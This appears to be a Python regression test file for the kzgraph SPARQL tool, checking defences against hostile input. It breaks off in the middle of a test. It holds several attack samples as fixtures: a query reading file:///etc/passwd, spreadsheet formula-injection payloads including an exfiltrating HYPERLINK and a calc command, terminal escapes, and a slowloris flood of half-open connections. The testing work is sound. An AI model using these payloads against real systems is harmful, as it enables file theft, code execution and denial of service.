"""Hostile input, round two (issue 14): one regression test per problem and per concern.

Each test checks what the issue asks for: the exit code, one line on standard error naming what and where,
the HTTP status, no partial output. Anything that could crash or exhaust the machine if the defence were
missing runs in a process of its own, under a small time and memory budget, so that a regression fails the
test instead of the test session. The broad SERVICE / LOAD / FROM corpus is in ``test_ssrf_corpus.py``.
"""

from __future__ import annotations

import contextlib
import csv
import http.client
import io
import json
import logging
import os
import re
import resource
import select
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
import rdflib

import kzgraph
from conftest import ROOT, audit_events, free_port
from kzgraph.cli import build_parser, main
from kzgraph.errors import InputError, QueryError
from kzgraph.load import Limits, load_file
from kzgraph.namespaces import GRAPH_DATA

KZ = [sys.executable, "-m", "kzgraph"]
#: Allowance for a fresh interpreter's start-up, on top of a budget's promised two seconds.
STARTUP = 1.5


def startup() -> float:
    """The allowance for start-up as this machine stands now: a fresh interpreter importing kzgraph's CLI,
    timed twice over (at least ``STARTUP``). Under load it takes seconds, and what a budget promises is
    about the command, not the machine (regression: these checks failed on a busy machine)."""
    start = time.monotonic()
    subprocess.run([sys.executable, "-c", "import kzgraph.cli"], check=True, capture_output=True)
    return max(STARTUP, 2 * (time.monotonic() - start))


ERROR = "kzgraph: error: "


def kz(
    *argv: str, stdin: bytes | str | None = None, timeout: float = 60, env: dict[str, str] | None = None
) -> tuple[subprocess.CompletedProcess[str], float]:
    """``kzgraph ARGV`` in its own process, as typed (supervised); the result and the seconds it took."""
    data = stdin.encode("utf-8") if isinstance(stdin, str) else stdin
    start = time.monotonic()
    done = subprocess.run(
        [*KZ, *argv], input=data, capture_output=True, timeout=timeout, env={**os.environ, **(env or {})}
    )
    elapsed = time.monotonic() - start
    text = subprocess.CompletedProcess(
        done.args,
        done.returncode,
        done.stdout.decode("utf-8", "replace"),
        done.stderr.decode("utf-8", "replace"),
    )
    return text, elapsed


def one_error_line(err: str) -> str:
    """The single ``kzgraph: error:`` line standard error must hold."""
    lines = err.strip().splitlines()
    assert len(lines) == 1, err[-3000:]
    assert lines[0].startswith(ERROR), lines[0]
    assert "Traceback" not in err and "panicked" not in err
    return lines[0]


def in_parallel(*calls: Any) -> list[Any]:
    """Run zero-argument callables at once (subprocesses mostly wait); their results in order."""
    with ThreadPoolExecutor(len(calls)) as pool:
        return list(pool.map(lambda c: c(), calls))


# ----------------------------------------------------------------------------------------------------
# The hostile dataset: control characters, U+FFFE, bidi overrides, terminal escapes, formula prefixes,
# markup and line breaks, on people tied to one another (so they are in the network, the CSV, the paths)

FORMULA = '=HYPERLINK("http://x.invalid/?leak","click")'
COMMAND = "+cmd|' /C calc'!A0"
CONTROL = "Ctl\u0001\u000b\ufffe end"
TERMINAL = "Term\u001b[2J\u001b[31mred\u001b]0;title\u0007 \u202eevil \u2066iso\u2069"
MARKUP = "<script>alert(1)</script> & <b>bold</b>"
#: A line break, then a formula: unquoted, the break would start a new record with a formula in it.
BROKEN = 'Broken\r=HYPERLINK("http://x.invalid/?cr","cr")'


def _turtle_string(text: str) -> str:
    """A Turtle string literal with every character outside printable ASCII written as \\u or \\U."""
    out = []
    for c in text:
        if c in '"\\':
            out.append("\\" + c)
        elif 0x20 <= ord(c) < 0x7F:
            out.append(c)
        elif ord(c) <= 0xFFFF:
            out.append(f"\\u{ord(c):04X}")
        else:
            out.append(f"\\U{ord(c):08X}")
    return '"' + "".join(out) + '"'


def write_hostile(folder: Path) -> Path:
    from kzgraph.resources import data_dir

    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sources.trig").write_bytes((data_dir() / "sources.trig").read_bytes())
    s = _turtle_string
    people = {
        "formula": (FORMULA, ["-2+3", "@SUM(1)"]),
        "command": (COMMAND, ["\tTAB", "\rCR", "=1+1"]),
        "control": (CONTROL, ["alt\u0001"]),
        "terminal": (TERMINAL, ["\u009b31m C1"]),
        "markup": (MARKUP, ["line one\nline two\r\nline three"]),
        "linebreak": (BROKEN, ["ok\r@SUM(1)"]),
    }
    lines = [
        "@prefix kz: <https://w3id.org/kzgraph/ontology#> .",
        "@prefix src: <https://w3id.org/kzgraph/id/source/> .",
        "@prefix person: <https://w3id.org/kzgraph/id/person/> .",
        "@prefix rel: <https://w3id.org/kzgraph/id/relationship/> .",
        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .",
    ]
    for name, (label, alts) in people.items():
        alt = " , ".join(s(a) for a in alts)
        lines.append(
            f"person:{name} a kz:Person ; skos:prefLabel {s(label)} ; skos:altLabel {alt} ;"
            f" kz:note {s(MARKUP + chr(10) + TERMINAL)} ; kz:source src:summary ."
        )
    for i, (a, b) in enumerate(
        [
            ("formula", "command"),
            ("terminal", "command"),
            ("control", "terminal"),
            ("markup", "formula"),
            ("linebreak", "markup"),
        ]
    ):
        lines.append(
            f"rel:h{i} a kz:Relationship ; kz:from person:{a} ; kz:relation kz:spouseOf ; kz:to person:{b} ;"
            " kz:source src:summary ."
        )
    (folder / "hostile.ttl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory, build_dir: Path) -> Path:
    """The hostile dataset, built and loaded once into an Oxigraph store (``oxigraph:PATH``)."""
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "store.db"
    assert (
        main(
            ["load", "--data", str(write_hostile(folder / "data")), "--store", f"oxigraph:{path}", "--force"]
        )
        == 0
    )
    return path


def store_args(path: Path) -> list[str]:
    return ["--store", f"oxigraph:{path}"]


# ----------------------------------------------------------------------------------------------------
# An endpoint over the hostile store, with small limits; its worker pool is at hand


@contextlib.contextmanager
def serving(store_path: Path, **config: Any) -> Iterator[tuple[str, Any]]:
    """The endpoint as ``kzgraph serve`` runs it (same protocol class and limits), in a thread."""
    import uvicorn

    from kzgraph.httpguard import protocol_for
    from kzgraph.serve import ServeConfig, prepare
    from kzgraph.store import LocalStore

    port = free_port()
    settings = ServeConfig(**{"port": port, "workers": 1, **config})
    pool, app = prepare(settings, LocalStore.open(store_path))
    server = uvicorn.Server(
        uvicorn.Config(
            app,
            host="127.0.0.1",
            port=port,
            log_level="warning",
            http=protocol_for(settings),
            timeout_keep_alive=5,
            limit_concurrency=settings.max_connections + 16,
        )
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.time() + 30
    while not server.started and time.time() < deadline:
        time.sleep(0.05)
    assert server.started
    try:
        yield f"http://127.0.0.1:{port}", pool
    finally:
        server.should_exit = True
        thread.join(10)
        pool.close()


QUERY_TIMEOUT = 3.0
HEADER_TIMEOUT = 1.0
BODY_TIMEOUT = 1.0
WORKER_MB = 400
ALLOWED = "kzgraph.test"


@pytest.fixture(scope="module")
def endpoint(hostile_store: Path) -> Iterator[tuple[str, Any]]:
    with serving(
        hostile_store,
        timeout=QUERY_TIMEOUT,
        header_timeout=HEADER_TIMEOUT,
        body_timeout=BODY_TIMEOUT,
        worker_memory_mb=WORKER_MB,
        allowed_hosts=(ALLOWED,),
    ) as served:
        yield served


def request(
    url: str, data: bytes | None = None, headers: dict[str, str] | None = None, timeout: float = 30
) -> tuple[int, dict[str, str], bytes]:
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read()


def sparql_get(base: str, query: str, accept: str = "*/*") -> tuple[int, dict[str, str], bytes]:
    return request(base + "/sparql?" + urllib.parse.urlencode({"query": query}), headers={"Accept": accept})


def sparql_post(base: str, query: str, accept: str = "*/*") -> tuple[int, dict[str, str], bytes]:
    headers = {"Content-Type": "application/sparql-query", "Accept": accept}
    return request(base + "/sparql", data=query.encode("utf-8"), headers=headers)


def raw_exchange(port: int, payload: bytes, timeout: float = 5.0) -> bytes:
    """Send raw bytes to the endpoint and read until it closes or goes quiet."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(payload)
        chunks = []
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            while chunk := sock.recv(65536):
                chunks.append(chunk)
                if b"\r\n\r\n" in b"".join(chunks):
                    sock.settimeout(0.5)
    return b"".join(chunks)


def status_of(response: bytes) -> int:
    m = re.match(rb"HTTP/1\.[01] (\d{3})", response)
    assert m, response[:200]
    return int(m.group(1))


def port_of(url: str) -> int:
    return int(urllib.parse.urlsplit(url).port or 0)


class Listener:
    """A TCP socket on 127.0.0.1 that records every connection made to it (anyone's, native code's too)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.1)
        self.port = int(self.sock.getsockname()[1])
        self.hits: list[bytes] = []
        self.stopping = False
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while not self.stopping:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            conn.settimeout(0.3)
            try:
                self.hits.append(conn.recv(200) or b"(nothing sent)")
            except OSError:
                self.hits.append(b"(nothing sent)")
            conn.close()

    def close(self) -> list[bytes]:
        time.sleep(0.3)
        self.stopping = True
        self.thread.join(2)
        self.sock.close()
        return self.hits


# ----------------------------------------------------------------------------------------------------
# Problem 1: SERVICE (and FROM) hidden after a comment that ends at a carriage return


def test_problem_1_service_hidden_by_carriage_return_comment(endpoint: tuple[str, Any]) -> None:
    ear = Listener()
    try:
        service = f"SELECT * WHERE {{ # c\r SERVICE <http://127.0.0.1:{ear.port}/sparql> {{ ?s ?p ?o }} }}"
        hidden_from = "SELECT * # c\r FROM <file:///etc/passwd> WHERE { ?s ?p ?o }"
        # the command line, exactly as in the issue: printf '...' | kzgraph query -
        (s_done, _), (f_done, _) = in_parallel(
            lambda: kz("query", "-", stdin=service.encode()),
            lambda: kz("query", "-", stdin=hidden_from.encode()),
        )
        assert s_done.returncode == 2 and s_done.stdout == ""
        assert "SERVICE is refused" in one_error_line(s_done.stderr)
        assert "line 2" in s_done.stderr  # the comment ended at the \r: SERVICE is on the second line
        assert f_done.returncode == 2 and f_done.stdout == ""
        assert "FROM and FROM NAMED are refused" in one_error_line(f_done.stderr)
        # the Python API, watched by the audit hook
        kg = kzgraph.open(store=f"oxigraph:{Path(os.environ['KZGRAPH_BUILD_DIR']) / 'kzgraph.oxigraph'}")
        with audit_events() as events:
            for query, refusal in ((service, "SERVICE is refused"), (hidden_from, "FROM and FROM NAMED")):
                with pytest.raises(QueryError, match=refusal):
                    kg.sparql(query)
        kg.close()
        assert [e for e in events if e[0] in ("socket.connect", "urllib.Request")] == []
        # the endpoint
        base, _ = endpoint
        for query, refusal in ((service, b"SERVICE is refused"), (hidden_from, b"FROM and FROM NAMED")):
            for status, _, body in (sparql_get(base, query), sparql_post(base, query)):
                assert status == 400 and refusal in body, (status, body)
    finally:
        hits = ear.close()
    assert hits == [], hits


# ----------------------------------------------------------------------------------------------------
# Problem 2: deep nesting crashed the process; the endpoint called the crash a timeout

DEEP_QUERIES = {
    "parentheses": "SELECT ?x WHERE { BIND(" + "(" * 6000 + "1" + ")" * 6000 + " AS ?x) }\n",
    "groups": "SELECT * WHERE " + "{" * 10000 + " ?s ?p ?o " + "}" * 10000 + "\n",
    "sub-selects": "SELECT * WHERE { " + "{ SELECT * WHERE " * 2000 + "{ ?s ?p ?o }" + " }" * 2000 + " }\n",
}


def test_problem_2_deep_sparql_nesting_is_refused(endpoint: tuple[str, Any]) -> None:
    from kzgraph.sparql.guard import MAX_DEPTH

    slack = startup()
    runs = in_parallel(
        *(
            lambda q=q: kz("--timeout", "20", "--memory-limit", "1500", "query", "-", stdin=q)
            for q in DEEP_QUERIES.values()
        )
    )
    for name, (done, elapsed) in zip(DEEP_QUERIES, runs, strict=True):
        assert done.returncode == 2, (name, done.returncode, done.stderr[-500:])  # 139 was a segfault
        line = one_error_line(done.stderr)
        assert f"more than {MAX_DEPTH} deep" in line and "line 1, column" in line, line
        assert done.stdout == ""
        assert elapsed < 10 + slack, (name, elapsed)
    base, pool = endpoint
    for name, query in DEEP_QUERIES.items():
        status, _, body = sparql_post(base, query)
        assert status == 400 and f"more than {MAX_DEPTH} deep".encode() in body, (name, status, body[:200])
    # a worker that dies is reported as a crash, not as a timeout
    worker = pool.workers[0].process
    answer: dict[str, Any] = {}
    cartesian = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    asking = threading.Thread(target=lambda: answer.update(r=sparql_get(base, cartesian)))
    start = time.monotonic()
    asking.start()
    time.sleep(0.7)
    os.kill(worker.pid, signal.SIGSEGV)
    asking.join(30)
    status, _, body = answer["r"]
    assert status == 500, (status, body)
    assert b"crash" in body and b"timeout" not in body, body
    assert time.monotonic() - start < QUERY_TIMEOUT
    # and the next query is answered by the fresh worker
    assert sparql_get(base, "ASK { ?s ?p ?o }")[0] == 200


# ----------------------------------------------------------------------------------------------------
# Problem 3: deeply nested JSON-LD


def test_problem_3_deep_jsonld_is_refused_before_parsing(tmp_path: Path) -> None:
    documents = {
        "objects-5000.jsonld": '{"@id": "http://e/a", "http://e/p": '
        + '{"http://e/p": ' * 5000
        + "1"
        + "}" * 5000
        + "}",
        "objects-20000.jsonld": '{"@id": "http://e/a", "http://e/p": '
        + '{"http://e/p": ' * 20000
        + "1"
        + "}" * 20000
        + "}",
        "arrays-5000.jsonld": '{"@id": "http://e/a", "http://e/p": ' + "[" * 5000 + "1" + "]" * 5000 + "}",
    }
    for name, text in documents.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    runs = in_parallel(
        *(
            lambda n=n: kz("--timeout", "20", "--memory-limit", "1000", "validate", str(tmp_path / n))
            for n in documents
        )
    )
    for name, (done, elapsed) in zip(documents, runs, strict=True):
        assert done.returncode == 2, (name, done.returncode, done.stderr[-500:])  # 139 / 134 were crashes
        line = one_error_line(done.stderr)
        assert name in line and "nested more than 256 deep" in line and "line 1, column" in line, line
        assert elapsed < 10


# ----------------------------------------------------------------------------------------------------
# Problem 4: devices and FIFOs; bytes counted as read


def test_problem_4_devices_and_fifos_are_refused_before_reading(tmp_path: Path) -> None:
    (tmp_path / "zero.ttl").symlink_to("/dev/zero")
    (tmp_path / "random.nt").symlink_to("/dev/urandom")
    os.mkfifo(tmp_path / "fifo.ttl")
    cases = {"zero.ttl": "is a device", "random.nt": "is a device", "fifo.ttl": "is a FIFO"}
    budget = ["--timeout", "4", "--memory-limit", "300"]  # a regression fails here, not the machine
    slack = startup()
    runs = in_parallel(*(lambda n=n: kz(*budget, "validate", str(tmp_path / n), timeout=30) for n in cases))
    for (name, expected), (done, elapsed) in zip(cases.items(), runs, strict=True):
        assert done.returncode == 2, (name, done.returncode, done.stderr[-500:])
        line = one_error_line(done.stderr)
        assert name in line and expected in line, line
        assert elapsed < 4 + slack, (name, elapsed)
    # the same through --data (a folder whose .ttl file is a device)
    data = tmp_path / "data"
    data.mkdir()
    (data / "zero.ttl").symlink_to("/dev/zero")
    done, elapsed = kz(*budget, "validate", "--data", str(data), timeout=30)
    assert done.returncode == 2 and "is a device" in one_error_line(done.stderr), done.stderr[-500:]
    # a regular file that reports size 0 (as /proc files do) is counted as it is read
    maps = tmp_path / "maps.ttl"
    maps.symlink_to("/proc/self/maps")
    assert os.stat(maps).st_size == 0
    with pytest.raises(InputError, match=r"maps\.ttl: file is over the 1000-byte limit"):
        load_file(ox.Store(), maps, GRAPH_DATA, Limits(file_bytes=1000))


# ----------------------------------------------------------------------------------------------------
# Problem 5: the process ends within two seconds of its time budget, and there is a memory budget

RUNAWAY = """\
import importlib, sys, time
def stubborn(*a, **k):  # native code holding a lot of memory, deaf to interrupts
    hoard = [b"x" * (50 << 20) for _ in range(6)]
    while True:
        try:
            time.sleep(0.05)
        except KeyboardInterrupt:
            pass
def hog(*a, **k):  # native code whose memory grows without end
    hoard = []
    while True:
        hoard.append(b"x" * (50 << 20))
        time.sleep(0.02)
parts = sys.argv[1].split(".")  # a module, then attributes: kzgraph.files.os.fsync
for i in range(len(parts) - 1, 0, -1):
    try:
        owner = importlib.import_module(".".join(parts[:i]))
        break
    except ImportError:
        continue
for attribute in parts[i:-1]:
    owner = getattr(owner, attribute)
setattr(owner, parts[-1], globals()[sys.argv[2]])
sys.argv = ["kzgraph", *sys.argv[3:]]
from kzgraph.cli import run
run()
"""


def runaway(patch: str, how: str, *argv: str) -> tuple[subprocess.CompletedProcess[str], float]:
    """The real command (supervised, as the console script runs it) with one step replaced."""
    start = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", RUNAWAY, patch, how, *argv], capture_output=True, text=True, timeout=60
    )
    return done, time.monotonic() - start


def test_problem_5_budgets_end_the_process_in_time_and_memory_is_bounded(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    target = out / "graph.nt"
    target.write_text("previous\n", encoding="utf-8")
    slack = startup()
    (timed, timed_elapsed), (hogged, hogged_elapsed) = in_parallel(
        # stuck while writing its output: the temporary file exists when the budget runs out
        lambda: runaway(
            "kzgraph.files.os.fsync",
            "stubborn",
            "--timeout",
            "3",
            "export",
            "--format",
            "nt",
            "-o",
            str(target),
        ),
        lambda: runaway("kzgraph.build.validate", "hog", "--memory-limit", "300", "validate"),
    )
    assert timed.returncode == 3, timed.stderr
    assert one_error_line(timed.stderr) == (
        "kzgraph: error: kzgraph export stopped after its 3 s time budget (raise it with --timeout)"
    )
    assert timed_elapsed < 3 + 2 + slack, timed_elapsed
    assert sorted(p.name for p in out.iterdir()) == ["graph.nt"], "a temporary file was left"
    assert target.read_text(encoding="utf-8") == "previous\n"
    assert hogged.returncode == 3, hogged.stderr
    line = one_error_line(hogged.stderr)
    assert "kzgraph validate stopped" in line and "300 MB memory budget" in line and "--memory-limit" in line
    assert hogged_elapsed < 15 + slack, hogged_elapsed
    # both budgets are options of every command
    args = build_parser().parse_args(["--timeout", "7", "--memory-limit", "123", "stats"])
    assert (args.timeout, args.memory_limit) == (7.0, 123)


# ----------------------------------------------------------------------------------------------------
# Problem 6: CSV formula injection

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_problem_6_csv_cells_cannot_be_formulas(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "csv"
    assert main(["export", *store_args(hostile_store), "--format", "csv", "-o", str(folder)]) == 0
    capsys.readouterr()
    cells: list[str] = []
    for name in ("nodes.csv", "edges.csv"):
        # read as a spreadsheet reads it: a record ends at CR, LF or CRLF outside quotes
        rows = list(csv.reader(io.StringIO((folder / name).read_text(encoding="utf-8"), newline="")))
        assert len(rows) > 1
        cells += [c for row in rows for c in row]
        assert {len(r) for r in rows} == {len(rows[0])}, f"{name}: a record was split by a raw line break"
    dangerous = [c for c in cells if c.startswith(FORMULA_START)]
    assert dangerous == []
    # the data is kept, shown as text: a leading apostrophe, as OWASP advises
    assert "'" + FORMULA in cells and "'" + COMMAND in cells
    assert any(c.startswith("'\tTAB") or c.startswith("'\rCR") for c in cells)
    # the W3C SPARQL CSV results format stays as the standard defines it: values unchanged
    query = tmp_path / "label.rq"
    query.write_text(
        "SELECT ?l WHERE { <https://w3id.org/kzgraph/id/person/formula> "
        "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n",
        encoding="utf-8",
    )
    assert main(["query", *store_args(hostile_store), str(query), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["l"], [FORMULA]]


# ----------------------------------------------------------------------------------------------------
# Problem 7: every XML output is well-formed, whatever the data holds


def parse_xml(data: bytes | str, what: str) -> ET.Element:
    try:
        return ET.fromstring(data.encode("utf-8") if isinstance(data, str) else data)
    except ET.ParseError as exc:
        raise AssertionError(f"{what} is not well-formed XML: {exc}") from None


def xml_texts(root: ET.Element) -> str:
    return "\n".join(t for e in root.iter() for t in (e.text, *e.attrib.values()) if t)


LABELS = "SELECT ?l WHERE { ?p <http://www.w3.org/2004/02/skos/core#prefLabel> ?l }"
CONSTRUCT = (
    "CONSTRUCT { ?p <http://e/label> ?l } WHERE { ?p <http://www.w3.org/2004/02/skos/core#prefLabel> ?l }"
)


def test_problem_7_xml_outputs_are_well_formed(
    hostile_store: Path, endpoint: tuple[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outputs: dict[str, bytes] = {}
    for fmt in ("graphml", "gexf"):
        target = tmp_path / f"network.{fmt}"
        assert main(["export", *store_args(hostile_store), "--format", fmt, "-o", str(target)]) == 0
        outputs[fmt] = target.read_bytes()
    for fmt, query in (("srx", LABELS), ("rdfxml", CONSTRUCT)):
        target = tmp_path / f"result.{fmt}"
        (tmp_path / "q.rq").write_text(query, encoding="utf-8")
        args = [
            "query",
            *store_args(hostile_store),
            str(tmp_path / "q.rq"),
            "--format",
            fmt,
            "-o",
            str(target),
        ]
        assert main(args) == 0
        outputs[f"query --format {fmt}"] = target.read_bytes()
    base, _ = endpoint
    for accept, query in (("application/sparql-results+xml", LABELS), ("application/rdf+xml", CONSTRUCT)):
        status, headers, body = sparql_get(base, query, accept)
        assert status == 200 and accept in headers.get("content-type", ""), (status, headers)
        outputs[f"endpoint {accept}"] = body
    capsys.readouterr()
    for what, data in outputs.items():
        text = xml_texts(parse_xml(data, what))
        assert "Ctl" in text and " end" in text, what  # the hostile label is there, made safe
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text), what


def csv_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    """The records of a CSV text as a spreadsheet reads them (RFC 4180: CR, LF or CRLF ends a record
    outside quotes), every one as wide as the header, or AssertionError."""
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True, delimiter=delimiter))
    widths = {len(r) for r in rows}
    assert rows and widths == {len(rows[0])}, (
        f"records of different widths {sorted(widths)}: a line break unquoted"
    )
    return rows


def tsv_rows(data: bytes) -> list[Any]:
    """The W3C SPARQL TSV results (terms in Turtle syntax, one result a line), read by a strict parser;
    every line as wide as the header."""
    lines = data.decode("utf-8").removesuffix("\n").split("\n")
    assert {line.count("\t") for line in lines} == {lines[0].count("\t")}, "a raw tab or line break"
    rows = list(ox.parse_query_results(data, format=ox.QueryResultsFormat.TSV))  # type: ignore[call-overload]
    assert len(rows) == len(lines) - 1
    return rows


def test_every_output_of_the_hostile_dataset_parses_strictly(hostile_store: Path) -> None:
    """XML, CSV, JSON and RDF, as every export and every result format writes them."""
    kg = kzgraph.open(store=f"oxigraph:{hostile_store}")
    store = kg.store
    problems: list[str] = []

    def check(what: str, parse: Any) -> None:
        try:
            parse()
        except Exception as exc:
            problems.append(f"{what}: {type(exc).__name__}: {str(exc)[:200]}")

    def rdf(text: str | bytes, parse_as: str) -> None:
        graph = rdflib.Dataset() if parse_as in ("nquads", "trig", "json-ld") else rdflib.Graph()
        graph.parse(data=text, format=parse_as)
        found = graph.quads() if isinstance(graph, rdflib.Dataset) else graph.triples((None, None, None))
        assert any("Ctl" in str(t[2]) for t in found), "the hostile label is missing"

    try:
        for fmt, parse_as in (("turtle", "turtle"), ("nt", "nt"), ("nquads", "nquads"), ("trig", "trig")):
            check(f"export {fmt}", lambda f=fmt, a=parse_as: rdf(kg.export(f, inferred=True), a))
        check("export jsonld", lambda: (json.loads(kg.export("jsonld")), rdf(kg.export("jsonld"), "json-ld")))
        check("export popolo", lambda: json.loads(kg.export("popolo")))
        for fmt in ("graphml", "gexf"):
            check(f"export {fmt}", lambda f=fmt: parse_xml(kg.export(f), f))
        for name, text in kg.export("csv").items():
            check(f"export csv {name}", lambda t=text: csv_rows(t))
        for fmt in ("srj", "srx", "csv", "tsv"):
            data = store.execute(LABELS, fmt=fmt)
            assert isinstance(data, bytes)
            parse = {
                "srj": lambda d=data: json.loads(d),
                "srx": lambda d=data: parse_xml(d, "srx"),
                "csv": lambda d=data: csv_rows(d.decode("utf-8")),
                "tsv": lambda d=data: tsv_rows(d),
            }[fmt]
            check(f"query {fmt}", parse)
        for fmt, parse_as in (("turtle", "turtle"), ("nt", "nt"), ("jsonld", "json-ld"), ("rdfxml", "xml")):
            data = store.execute(CONSTRUCT, fmt=fmt)
            assert isinstance(data, bytes)
            if fmt == "rdfxml":
                check("query rdfxml as XML", lambda d=data: parse_xml(d, "rdfxml"))
            check(f"query {fmt}", lambda d=data, a=parse_as: rdf(d, a))
    finally:
        kg.close()
    assert problems == []


# ----------------------------------------------------------------------------------------------------
# Problem 8: no raw terminal escapes in any human-readable output

RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def test_problem_8_terminal_escapes_are_shown_not_obeyed(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    s = store_args(hostile_store)
    (hostile_store.parent / "labels.rq").write_text(LABELS, encoding="utf-8")
    commands = [
        ["show", *s, "person:terminal"],
        ["show", *s, "person:control"],
        ["query", *s, str(hostile_store.parent / "labels.rq")],  # the table
        ["path", *s, "person:terminal", "person:formula"],
        ["stats", *s],
        ["show", *s, "no one\x1b[2J\u202e"],  # an error message quoting the user's own text
    ]
    seen = ""
    for argv in commands:
        code = main(argv)
        out, err = capsys.readouterr()
        assert code == (2 if "no one" in argv[-1] else 0), (argv, err)
        for stream in (out, err):
            assert not RAW_CONTROL.search(stream.replace("\n", "").replace("\t", "")), (argv, stream[:500])
        seen += out + err
    assert "Term\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07 \\u202eevil" in seen
    assert "Ctl\\x01\\x0b" in seen
    assert "no one\\x1b[2J\\u202e" in seen


# ----------------------------------------------------------------------------------------------------
# Problem 9: the endpoint checks a body's size before reading it, and counts a chunked one


def test_problem_9_request_bodies_are_limited_before_they_are_read(endpoint: tuple[str, Any]) -> None:
    from kzgraph.serve import ServeConfig

    limit = ServeConfig().max_body_bytes
    base, _ = endpoint
    port = port_of(base)
    # a declared 300 MB body is refused from its Content-Length, before any of it is sent
    start = time.monotonic()
    for ctype in ("application/sparql-query", "application/x-www-form-urlencoded"):
        head = (
            f"POST /sparql HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: {ctype}\r\n"
            "Content-Length: 300000000\r\n\r\n"
        )
        assert status_of(raw_exchange(port, head.encode())) == 413
    assert time.monotonic() - start < 3
    # a chunked body is counted as it arrives: refused soon after the limit, not after the last chunk
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(
            f"POST /sparql HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/sparql-query\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
        )
        chunk = b"10000\r\n" + b"#" * 0x10000 + b"\r\n"
        sent, response = 0, b""
        while sent < 64 * limit:
            if select.select([sock], [], [], 0)[0]:
                break
            try:
                sock.sendall(chunk)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += 0x10000
        with contextlib.suppress(OSError):
            sock.settimeout(3)
            response = sock.recv(65536)
    assert sent < 16 * limit, f"the server read {sent} bytes of a body limited to {limit}"
    assert response == b"" or status_of(response) == 413, response[:200]
    # and a body just over the limit, declared honestly, is a 413 with a one-line reason
    status, _, body = request(
        base + "/sparql", data=b"#" * (limit + 1), headers={"Content-Type": "application/sparql-query"}
    )
    assert status == 413 and str(limit).encode() in body and body.strip().count(b"\n") == 0
    assert sparql_get(base, "ASK { ?s ?p ?o }")[0] == 200


# ----------------------------------------------------------------------------------------------------
# Problem 10: slowloris


def test_problem_10_slowloris_does_not_keep_an_honest_client_out(tmp_path: Path) -> None:
    """The issue's attack as it was made: ``kzgraph serve`` under a limit of 1,024 open files, 1,100
    connections that send part of their headers and never finish, then an honest query."""
    from kzgraph.serve import ServeConfig

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 2000:  # this process holds the 1,100 attackers' sockets
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    port = free_port()
    log = (tmp_path / "serve.log").open("wb")
    server = subprocess.Popen(
        [*KZ, "serve", "--port", str(port), "--workers", "1"],
        stdout=log,
        stderr=log,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024)),
    )
    base = f"http://127.0.0.1:{port}"
    attackers: list[socket.socket] = []
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                assert sparql_get(base, "ASK { }")[0] == 200
                break
            except OSError:
                assert server.poll() is None and time.monotonic() < deadline, "the endpoint did not start"
                time.sleep(0.1)
        for _ in range(1100):
            with contextlib.suppress(OSError):
                s = socket.create_connection(("127.0.0.1", port), timeout=2)
                s.sendall(
                    f"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Slow: ".encode()
                )
                attackers.append(s)
        start = time.monotonic()
        try:
            status, _, body = request(
                base + "/sparql?" + urllib.parse.urlencode({"query": "ASK { ?s ?p ?o }"}), timeout=5
            )
        except OSError as exc:
            status, body = 0, repr(exc).encode()
        elapsed = time.monotonic() - start
        log.flush()
        said = (tmp_path / "serve.log").read_text(errors="replace")
        summary = sorted({line for line in said.splitlines() if line and not line.startswith(" ")})[:8]
        assert status == 200 and b"true" in body, (status, body[:200], elapsed, summary)
        assert elapsed < 3, elapsed  # the honest query timed out after 15 s
        # the cap on open connections held: the oldest half-open ones were closed to make room
        still_open = 0
        for s in attackers:
            try:
                still_open += s.recv(1, socket.MSG_DONTWAIT) != b""
            except BlockingIOError:
